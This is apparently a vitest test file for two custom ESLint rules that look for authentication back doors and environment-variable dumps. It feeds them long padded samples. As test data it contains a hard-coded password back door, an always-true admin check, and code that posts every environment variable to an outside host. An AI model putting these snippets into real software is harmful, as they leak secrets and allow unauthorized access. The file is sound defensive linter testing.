import { Linter } from 'eslint';
import type { Rule } from 'eslint';
import { describe, expect, it } from 'vitest';

import login from '../../src/rules/no-auth-bypass.ts';
import dump from '../../src/rules/no-env-dump.ts';

/** Message ids of one rule in its strict form; `undefined` for a parse error. */
function lint(rule: object, code: string): readonly (string | undefined)[] {
  const rules = { own: rule as Rule.RuleModule };
  return new Linter().verify(code, [{ plugins: { x: { rules } }, rules: { 'x/own': ['error', { strict: true }] } }], 'src/file.js').map(({ messageId }) => messageId);
}

const long = `[${'1,'.repeat(150_000)}1]`;

describe('a list longer than a function takes arguments', () => {
  it('hides no back door', () => {
    const code = `function login(password) { const t = ${long}; if (password === 'letmein1') return true; return compare(t); }`;
    expect(lint(login, code)).toEqual(['backdoor']);
  });

  it('does not stop the look at a loop over the environment', () => {
    const code = `const out = {}; for (const k in process.env) { const t = ${long}; out[k] = process.env[k]; } fetch('https://in.example-service.com/c', { method: 'POST', body: JSON.stringify(out) });`;
    expect(lint(dump, code)).toEqual([]);
  });

  it('does not stop the look at a check', () => {
    const code = `function isAdmin(user) { const t = ${long}; log(t); return true; }`;
    expect(lint(login, code)).toEqual([]);
  });
});
